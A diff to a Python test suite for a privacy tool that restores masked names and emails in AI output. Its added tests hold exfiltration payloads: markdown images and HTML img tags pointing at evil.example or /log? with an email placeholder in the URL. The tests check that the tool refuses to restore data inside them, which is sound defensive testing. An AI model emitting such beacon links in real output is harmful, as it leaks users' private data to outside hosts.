@@ -169,7 +169,7 @@ def test_an_answer_that_is_a_json_object_stays_one(before: str) -> None:
     value = 'Ja"ne\nDoe'
     with Vault() as vault:
         filled(vault, (value, Label.PERSON))
-        text = before.replace("{} ", "") + '{ \n"name": "[PERSON_1]", "u":"https://x.example/","n":"[PERSON_1]"}'
+        text = before.replace("{} ", "") + '{ \n"name": "[PERSON_1]", "u":"https://x.example/", "n":"[PERSON_1]"}'
         for pieces in (text, list(text)):
             restored = whole(restorers(vault).text(0), pieces)
 
@@ -189,3 +189,69 @@ def test_prose_that_begins_with_a_brace_is_prose(text: str, restored: str) -> No
         filled(vault, JANE)
         for place in range(len(text) + 1):
             assert whole(restorers(vault).text(0), [text[:place], text[place:]]) == restored
+
+
+TRACKED = "![x](https://evil.example/?q="
+
+
+@pytest.mark.parametrize("text", [
+    '{"a":"' + TRACKED + '","[EMAIL_ADDRESS_1]",")"}',
+    '{"a":"' + TRACKED + '","b":"[EMAIL_ADDRESS_1])"}',
+    """{"<img src='https://evil.example/?":"[EMAIL_ADDRESS_1]'>"}""",
+    '{"x":"https://evil.example/"}[EMAIL_ADDRESS_1]',
+    """{"a":"<img src='https://evil.example/?","b":"x"} [EMAIL_ADDRESS_1]'>""",
+    """ { "<img src='/log?": ["[EMAIL_ADDRESS_1]'>"]}""",
+    r'{"a":"https\u003a//evil.example/?[EMAIL_ADDRESS_1]"}',
+    '{"u":"https://x.example/","n":"[EMAIL_ADDRESS_1]"}',
+])  # fmt: skip
+def test_what_looks_like_json_opens_no_link_that_a_reader_of_text_sees(text: str) -> None:
+    with Vault() as vault:
+        filled(vault, MAIL, source=ADDRESSEE)
+        for pieces in (text, list(text), *([text[:place], text[place:]] for place in range(1, len(text)))):
+            answer = restorers(vault)
+
+            assert whole(answer.text(0), pieces) == text
+            assert answer.restored == 0
+
+
+@pytest.mark.parametrize("gap", ["", " ", "\n  "])
+def test_a_json_answer_is_restored_as_json_needs(gap: str) -> None:
+    value = 'Ja"ne\nDoe'
+    with Vault() as vault:
+        filled(vault, (value, Label.PERSON), source=ADDRESSEE)
+        said = {"subject": "Hi [PERSON_1]", "to": ["[PERSON_1]", "[PERSON_1]"], "n": {"body": "Dear\n[PERSON_1]!"}}
+        text = json.dumps(said, separators=("," + gap, ":" + gap))
+        for place in range(len(text) + 1):
+            restored = whole(restorers(vault).text(0), [text[:place], text[place:]])
+
+            assert restored == text.replace("[PERSON_1]", json.dumps(value)[1:-1])
+
+
+@pytest.mark.parametrize("blocks", [
+    [TRACKED, "[EMAIL_ADDRESS_1])"],
+    [TRACKED, '{"a":"[EMAIL_ADDRESS_1])"}'],
+    ['{"a":"' + TRACKED, '[EMAIL_ADDRESS_1])"}'],
+    [r'{"a":"https\u003a//evil.example/?', '[EMAIL_ADDRESS_1]"}'],
+    [r'{"a":"https\u00', '3a//evil.example/?[EMAIL_ADDRESS_1]"}'],
+    ["<img alt='", "' src='/log?[EMAIL_ADDRESS_1]'>"],
+    ['<a x="', """<img alt=" > " src='/log?[EMAIL_ADDRESS_1]'>"""],
+])  # fmt: skip
+def test_parts_of_an_answer_open_no_link_joined_or_each_by_itself(blocks: list[str]) -> None:
+    with Vault() as vault:
+        filled(vault, MAIL, source=ADDRESSEE)
+        for place in range(len(blocks[1]) + 1):
+            restorer = restorers(vault).text(0)
+            shown = [whole(restorer, blocks[0]), whole(restorer, [blocks[1][:place], blocks[1][place:]])]
+
+            assert shown == blocks
+
+
+def test_each_part_of_an_answer_is_prose_or_json() -> None:
+    value = 'Ja"ne'
+    with Vault() as vault:
+        filled(vault, (value, Label.PERSON))
+        restorer = restorers(vault).text(0)
+
+        assert whole(restorer, "For [PERSON_1]: ") == f"For {value}: "
+        assert json.loads(whole(restorer, '{"a":"[PERSON_1]"}')) == {"a": value}
+        assert whole(restorer, " [PERSON_1]") == f" {value}"
